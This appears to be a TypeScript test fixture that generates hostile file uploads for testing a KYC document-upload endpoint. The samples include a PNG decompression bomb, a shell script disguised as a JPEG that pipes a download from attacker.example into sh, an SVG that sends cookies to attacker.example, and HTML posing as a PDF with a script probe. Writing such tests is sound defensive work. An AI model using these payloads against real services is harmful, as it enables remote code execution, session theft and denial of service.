// Files an attacker uploads, and the few real documents they hide among: each real one carries a
// marker, so that an answer serving a stored document back can be recognised by its content.
import { crc32, deflateSync } from 'node:zlib';

export interface UploadFile {
  name: string;
  type: string;
  bytes: Uint8Array;
}

const MIB = 1024 * 1024;

/** A JPEG as far as any reader is concerned: SOI, JFIF APP0, a comment holding `marker`, EOI. */
export function jpeg(name: string, marker = '', totalBytes = 0): UploadFile {
  const app0 = [0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00];
  const comment = Buffer.from(marker, 'latin1');
  const head = Buffer.concat([
    Buffer.from([0xff, 0xd8, ...app0, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff]),
    comment,
  ]);
  const end = Buffer.from([0xff, 0xd9]);
  const padding = Buffer.alloc(Math.max(0, totalBytes - head.length - end.length));
  return { name, type: 'image/jpeg', bytes: Buffer.concat([head, padding, end]) };
}

/** A one-page PDF whose only text is `marker`. */
export function pdf(name: string, marker = ''): UploadFile {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Marker (${marker}) >>`,
  ];
  let text = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(text));
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text);
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  text += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return { name, type: 'application/pdf', bytes: Buffer.from(text, 'latin1') };
}

function pngChunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
}

/**
 * A decompression bomb: a well-formed PNG of 100 000 × 100 000 grey pixels (10 GB once decoded)
 * whose compressed data is a few kilobytes. Anything that decodes it to check or resize it runs out
 * of memory; a server that only reads what the file is must not notice.
 */
export function decompressionBomb(name = 'aadhar-scan.png'): UploadFile {
  const side = 100_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const bytes = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(16 * MIB), { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  return { name, type: 'image/png', bytes };
}

/** A shell script renamed to look like a photo. */
export function renamedScript(name = 'aadhar.jpg'): UploadFile {
  const script = '#!/bin/sh\ncurl -s http://attacker.example/payload | sh\n';
  return { name, type: 'image/jpeg', bytes: Buffer.from(script) };
}

/** An SVG image that runs a script when a browser opens it. */
export function svgWithScript(name = 'aadhar.svg', type = 'image/svg+xml'): UploadFile {
  const text =
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("https://attacker.example/?c=" + document.cookie)</script></svg>';
  return { name, type, bytes: Buffer.from(text) };
}

/** An HTML page that calls itself a PDF. */
export function htmlAsPdf(name = 'statement.pdf'): UploadFile {
  const text = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';
  return { name, type: 'application/pdf', bytes: Buffer.from(text) };
}

/** A JPEG one byte over the 5 MB limit. */
export function oversizeJpeg(name = 'aadhar-large.jpg'): UploadFile {
  return jpeg(name, '', 5 * MIB + 1);
}

export function emptyFile(name = 'aadhar.png'): UploadFile {
  return { name, type: 'image/png', bytes: new Uint8Array(0) };
}

/** The identity details of a valid KYC submission, as the form sends them. */
export const VALID_KYC_FIELDS: Readonly<Record<string, string>> = {
  firstName: 'Meera',
  lastName: 'Iyer',
  email: 'meera.iyer@example.com',
  phone: '+91 98450 12345',
  dob: '1988-03-21',
  street1: '7 Residency Road',
  city: 'Bengaluru',
  state: 'Karnataka',
  postalCode: '560025',
  termsAccepted: 'true',
  privacyPolicyAccepted: 'true',
};
